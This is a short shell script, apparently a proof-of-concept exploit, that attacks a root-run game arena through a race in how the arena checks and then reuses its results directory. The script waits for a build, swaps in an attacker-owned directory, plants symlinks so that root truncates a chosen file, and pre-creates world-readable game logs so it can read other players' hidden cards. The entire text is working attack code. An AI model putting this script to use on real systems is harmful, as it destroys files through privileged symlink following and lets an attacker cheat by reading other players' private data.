#!/bin/sh
# parent_swap.sh PARENT NAME PRECIOUS - run as a local user who owns
# PARENT, the directory that holds an arena's results directory
# PARENT/NAME (made by root, mode 0700, and checked to be root's). The
# arena checks the results directory once, then goes on by its path. So:
# wait for the first build of the run (a 'referee --build' with DEST under
# PARENT/NAME: the attacker's own submission can make it last), move
# root's directory aside and put one of our own in its place, holding
#   - schedule.jsonl.tmp, arena.json.tmp: links to PRECIOUS (the arena
#     opens them O_TRUNC, following links, as root);
#   - results.jsonl, empty (read by path on resume and by the report);
#   - logs/ID.log for every game id we can guess: our own files, mode
#     0666, which the referee reuses (O_TRUNC, fchmod 0600: still ours),
#     so we read every seat's cards.
# Prints "swapped" when done.
set -u
parent=$1 name=$2 precious=$3
for _ in $(seq 1 400); do
	pgrep -f -- "--build .* $parent/$name/builds/" >/dev/null && break
	sleep 0.025
done
mv "$parent/$name" "$parent/$name.root" || exit 1
mkdir -m 777 "$parent/$name" "$parent/$name/logs"
ln -s "$precious" "$parent/$name/schedule.jsonl.tmp"
ln -s "$precious" "$parent/$name/arena.json.tmp"
: >"$parent/$name/results.jsonl"
chmod 666 "$parent/$name/results.jsonl"
for v in hammerwalt; do
	for p in 0001 0002 0003; do
		for r in 0 1; do
			f=$parent/$name/logs/$v.d0001.p$p.r$r.log
			: >"$f" && chmod 666 "$f"
		done
	done
done
echo swapped
